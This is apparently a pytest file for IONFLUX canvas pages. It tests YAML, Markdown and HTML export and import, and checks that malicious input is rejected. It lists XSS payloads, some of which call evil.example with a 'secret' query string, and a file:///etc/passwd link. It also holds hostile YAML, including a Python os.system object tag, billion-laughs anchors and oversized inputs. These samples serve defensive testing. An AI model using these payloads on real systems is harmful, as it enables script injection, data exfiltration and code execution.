"""Pages as files: what comes back, what is read elsewhere, and what a hostile file cannot do."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ionflux_core import yaml_text
from ionflux_core.blocks.base import Computed
from ionflux_core.domain.canvas import CanvasBlock, Place
from ionflux_core.errors import Conflict, Invalid, IonfluxError, LimitExceeded, NotFound
from ionflux_core.limits import CANVAS_BLOCKS, CANVAS_IMPORT_BYTES, TEXT_CHARS
from ionflux_core.services.canvas import Canvas
from ionflux_core.services.canvas_files import CanvasFiles, _as_yaml, _BlockFile, _content
from ionflux_core.services.canvas_paper import rendered
from ionflux_core.storage.tables import canvas_blocks
from tests.agents_for_tests.pages import Sum, canvas, kinds, reading, text, world
from tests.agents_for_tests.world import World

__all__ = ["canvas", "kinds", "world"]


class Here:
    """Surroundings in which texts are shown as they are written."""

    def filled(self, value: Any) -> Any:
        """The value itself."""
        return value

    def filled_text(self, text: str) -> str:
        """The text itself."""
        return text


@pytest.fixture
def files(canvas: Canvas, world: World) -> CanvasFiles:
    """The files of the world's canvas."""
    world.app.canvas_files.surroundings = lambda *_: Here()  # type: ignore[assignment,return-value]
    return world.app.canvas_files


def written(block: CanvasBlock) -> tuple[Any, ...]:
    """What a person has made of a block."""
    return block.name, block.type, block.content, block.place


def one_block(markdown: str = "hi", **more: str) -> str:
    """A file with one text block."""
    lines = "".join(f"\n    {key}: {value}" for key, value in more.items())
    head = "ionflux_page: 1\ntitle: T\nblocks:\n  - name: a\n    type: text"
    return f"{head}{lines}\n    content: {{markdown_text: {markdown}}}\n"


def test_an_exported_page_comes_back(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "Plan: Q4 #1", icon="🚀")
    words = "# A\n\n- 1.10\n- yes\n\ttab \u00a0 end\r\nline\n  trailing  \n\n"
    first = canvas.add_block(world.workspace, page.id, "text", text(words, "no"), place=Place(x=3, y=7, z=2))
    other = canvas.add_block(world.workspace, page.id, Sum.type, {"source": first.name, "formula": "{{ 7*7 }}"})
    canvas.write_output(world.workspace, other.id, Computed(output="computed, not written"))
    exported = files.yaml(world.workspace, page.id)
    assert "computed" not in exported
    elsewhere = world.app.workspaces.create("Elsewhere").id
    back = files.import_yaml(elsewhere, exported, by="Ann")
    assert (back.title, back.icon, back.workspace_id) == ("Plan: Q4 #1", "🚀", elsewhere)
    assert [written(block) for block in back.blocks] == [
        written(block) for block in canvas.page(world.workspace, page.id).blocks
    ]
    assert {block.id for block in back.blocks}.isdisjoint({first.id, other.id})
    assert [(line.author, line.message) for line in canvas.history(elsewhere, back.id)] == [("Ann", "imported")]
    assert files.yaml(elsewhere, back.id) == exported


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60), st.floats() | st.integers()
)
def test_any_words_and_numbers_come_back(small_files: tuple[CanvasFiles, str], words: str, number: float) -> None:
    files, workspace = small_files
    canvas = files._canvas
    page = canvas.create(workspace, "Any")
    block = canvas.add_block(workspace, page.id, "text", text(words))
    value = canvas_blocks.update().where(canvas_blocks.c.id == block.id)
    canvas._db.write(
        lambda c: c.execute(value.values(type="anything", content={"words": words, "number": number})).rowcount
    )
    stored = canvas.block(workspace, block.id).content
    loaded = yaml_text.load(_as_yaml(canvas.block(workspace, block.id)))
    if "content" in loaded.data[0]:
        loaded.data[0]["content"] = loaded.numbers((0, "content"))
    assert _content(0, _BlockFile.model_validate(loaded.data[0])) == stored


@pytest.fixture
def small_files(make_application: Any) -> tuple[CanvasFiles, str]:
    """Files on SQLite alone, and a workspace."""
    application = make_application()
    return application.canvas_files, application.workspaces.create("Test").id


def test_agents_are_found_by_their_names_in_another_workspace(
    canvas: Canvas, files: CanvasFiles, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        "ionflux_core.services.canvas_files.fields_of", lambda type, widget: ["formula"] if type == Sum.type else []
    )
    world.agent("probe", lambda ctx, inputs: {})
    here, gone = world.instance("probe", "Sentinel"), world.instance("probe", "**Old** <b>One</b>")
    page = canvas.create(world.workspace, "Plan")
    for instance in (here, gone):
        canvas.add_block(world.workspace, page.id, Sum.type, {"formula": instance.id})
    exported = files.yaml(world.workspace, page.id)
    same = files.import_yaml(world.workspace, exported)
    assert [block.content["formula"] for block in same.blocks] == [here.id, gone.id]
    other = world.app.workspaces.create("Other").id
    twin = world.app.agents.create(other, "probe", "sentinel")
    found = files.import_yaml(other, exported)
    assert [block.content.get("formula") for block in found.blocks] == [twin.id, "", None]
    assert "there is no agent '**Old** <b>One</b>'" in found.blocks[2].content["markdown_text"]
    assert "<b>" not in rendered(found.blocks[2].content["markdown_text"])


def test_markdown_reads_from_the_top_left(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "Plan")
    canvas.add_block(world.workspace, page.id, "text", text("second"), place=Place(x=6, y=0))
    canvas.add_block(world.workspace, page.id, "text", text("first", "Head"), place=Place(x=0, y=0))
    odd = canvas.add_block(world.workspace, page.id, "text", place=Place(y=8), name="odd")
    change = canvas_blocks.update().where(canvas_blocks.c.id == odd.id)
    world.app.db.write(lambda c: c.execute(change.values(type="hologram")).rowcount)
    markdown = files.markdown(world.workspace, page.id)
    assert markdown.startswith("# Plan\n\n## Head\n\nfirst\n\nsecond\n\n*odd: this version of IONFLUX does not know")


class Seen(HTMLParser):
    """Every tag and attribute a browser would find."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


ATTACKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "</style><script>x</script>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt&colon;alert(1))", "[x](data:text/html,<script>1</script>)",
    "[x](\x01javascript:alert(1))", "![x](https://evil.example/?q=secret)", "![x](javascript:alert(1))",
    "<iframe src=https://evil.example>", "<https://evil.example/\" onmouseover=alert(1)>", "[x][1]\n\n[1]: vbscript:x",
    "![a\" onload=\"x](https://evil.example/a.png \"t\" onload=\"x\")", "```\n</code></pre><script>1</script>\n```",
    "`<script>1</script>`", "<!-- --><script>1</script>", "&lt;script&gt;", "[x](file:///etc/passwd)",
    "<a href=//evil.example>",
    "| <script> | <img src=x> |\n|---|---|\n| <b onclick=x> | ![p](http://evil.example) |",
    "<style>@import 'x'</style>",
    "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>", "<form action=//evil.example><input>",
]  # fmt: skip
TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "section", "h1", "h2", "h3", "p", "a", "span", "br"),
    *("pre", "code", "strong", "em", "s", "ul", "ol", "li", "blockquote", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


def test_the_html_holds_no_script_and_asks_nobody(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "<script>alert(0)</script>")
    for attack in ATTACKS:
        canvas.add_block(world.workspace, page.id, "text", text(attack, attack.splitlines()[0]))
    document = files.html(world.workspace, page.id)
    assert "&lt;script&gt;alert(0)&lt;/script&gt;" in document
    for tag, attributes in Seen(document).tags:
        assert tag in TAGS, tag
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "srcset", "action")]
        assert tag == "section" or "style" not in attributes
        if "href" in attributes:
            assert re.match(r"(https?|mailto):", attributes["href"] or ""), attributes
            assert "noreferrer" in (attributes["rel"] or "")
    assert "default-src 'none'" in document
    assert "url(" not in document and "@import 'x'" not in document.split("</style>")[0]


def test_pages_of_the_workspace_are_names_on_paper() -> None:
    words = rendered("Ask [Ann **B**](canvas?page=1) or [us](https://example.com/?a=1&b=2)")
    assert 'Ask <span class="away">Ann <strong>B</strong></span> or <a href="https://example.com/?a=1&amp;b=2"' in words


def test_texts_that_take_long_to_read_are_shown_as_written(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "Plan")
    canvas.add_block(world.workspace, page.id, "text", text("![" * TEXT_CHARS))
    canvas.add_block(world.workspace, page.id, "text", text("**fine**"))
    document = files.html(world.workspace, page.id)
    assert "<pre>![![" in document and "<strong>fine</strong>" in document


def nested(levels: int) -> str:
    """A JSON text of so many lists."""
    return "[" * levels + "]" * levels


HOSTILE = {
    "no page": "title: x",
    "a list": "- 1",
    "nothing": "",
    "a newer format": "ionflux_page: 2\ntitle: x",
    "a truth for a number": "ionflux_page: true\ntitle: x",
    "an unknown key": "ionflux_page: 1\ntitle: x\nowner: me",
    "an unknown key of a block": one_block(id="abc"),
    "an unknown key of a content": one_block().replace("markdown_text", "script"),
    "an unknown type": one_block().replace("type: text", "type: shell"),
    "no title": "ionflux_page: 1\ntitle: ''",
    "a bad icon": "ionflux_page: 1\ntitle: x\nicon: <b>",
    "a bad name": one_block().replace("name: a", "name: A B"),
    "a place outside": one_block(place="{x: 99}"),
    "a place as text": one_block(place="{x: '1'}"),
    "a huge block": one_block(place="{width: 12, height: 100000}"),
    "the same name twice": one_block() + one_block().split("blocks:\n")[1],
    "a circle": "ionflux_page: 1\ntitle: x\nblocks:\n"
    + "".join(
        f"  - {{name: {a}, type: text, content: {{markdown_text: '{{{{ blocks.{b}.output }}}}'}}}}\n"
        for a, b in ("ab", "bc", "ca")
    ),
    "itself": one_block("'{{ blocks.a.output }}'"),
    "an anchor": "ionflux_page: 1\ntitle: &a x\nicon: *a",
    "laughter": "a: &a [x,x]\nb: &b [*a,*a]\nionflux_page: 1\ntitle: x",
    "a tag": "ionflux_page: 1\ntitle: !!python/object/apply:os.system [id]",
    "two documents": "ionflux_page: 1\ntitle: x\n---\nionflux_page: 1",
    "depth": f"ionflux_page: 1\ntitle: {nested(500)}",
    "a key twice": "ionflux_page: 1\ntitle: x\ntitle: y",
    "both contents": one_block(content_json="'{}'"),
    "content_json that is no JSON": one_block().split("    content")[0] + "    content_json: '{'",
    "content_json that is no map": one_block().split("    content")[0] + "    content_json: '[]'",
    "content_json too deep": one_block().split("    content")[0] + f"    content_json: '{{\"a\": {nested(90)}}}'",
    "content_json far too deep": one_block().split("    content")[0] + f"    content_json: '{nested(100_000)}'",
    "a text of a megabyte": one_block("x" * 1_100_000),
    "too many blocks": "ionflux_page: 1\ntitle: x\nblocks:\n" + "  - {name: a, type: text}\n" * (CANVAS_BLOCKS + 1),
    "too many values": "ionflux_page: 1\ntitle: x\nblocks: [" + "[]," * 250_000 + "]",
    "too large": "ionflux_page: 1\ntitle: x # " + "x" * CANVAS_IMPORT_BYTES,
    "no UTF-8": b"ionflux_page: 1\ntitle: \xff\xfe",
    "a control character": "ionflux_page: 1\ntitle: a\x07b",
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_file_leaves_nothing_behind(small_files: tuple[CanvasFiles, str], hostile: str) -> None:
    files, workspace = small_files
    with pytest.raises(IonfluxError) as refused:
        files.import_yaml(workspace, HOSTILE[hostile])
    assert isinstance(refused.value, Invalid | LimitExceeded | Conflict), refused.value.code
    assert len(refused.value.message) < 600
    assert files._canvas.tree(workspace) == []


def test_a_refusal_says_where(small_files: tuple[CanvasFiles, str]) -> None:
    files, workspace = small_files
    with pytest.raises(Invalid, match=r"Line 6, column 16: blocks.0.place.x"):
        files.import_yaml(workspace, one_block(place="{x: 99}"))


def test_a_stored_secret_is_not_imported(files: CanvasFiles, world: World) -> None:
    world.app.secrets.put(world.workspace, "shop", "shpat_0123456789abcdef")
    with pytest.raises(Invalid) as refused:
        files.import_yaml(world.workspace, one_block("shpat_0123456789abcdef"))
    assert refused.value.code == "secret_in_text"


def test_a_page_as_large_as_allowed_comes_back(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "Large")
    for number in range(18):
        canvas.add_block(world.workspace, page.id, "text", text(f"{number}: " + "wörter sind lang\n" * 5_000))
    with pytest.raises(LimitExceeded, match="larger than 2 MiB"):
        for _ in range(20):
            canvas.duplicate_block(world.workspace, canvas.page(world.workspace, page.id).blocks[0].id)
    full = canvas.page(world.workspace, page.id)
    back = files.import_yaml(world.workspace, files.yaml(world.workspace, page.id))
    assert [written(block) for block in back.blocks] == [written(block) for block in full.blocks]


def test_files_of_another_workspace_are_not_there(canvas: Canvas, files: CanvasFiles, world: World) -> None:
    page = canvas.create(world.workspace, "Ours")
    canvas.add_block(world.workspace, page.id, "text", text(reading("nobody")))
    other = world.app.workspaces.create("Other").id
    for export in (files.markdown, files.html, files.yaml):
        with pytest.raises(NotFound):
            export(other, page.id)
    with pytest.raises(NotFound):
        files.import_yaml(other, one_block(), parent_id=page.id)
    assert canvas.tree(other) == []
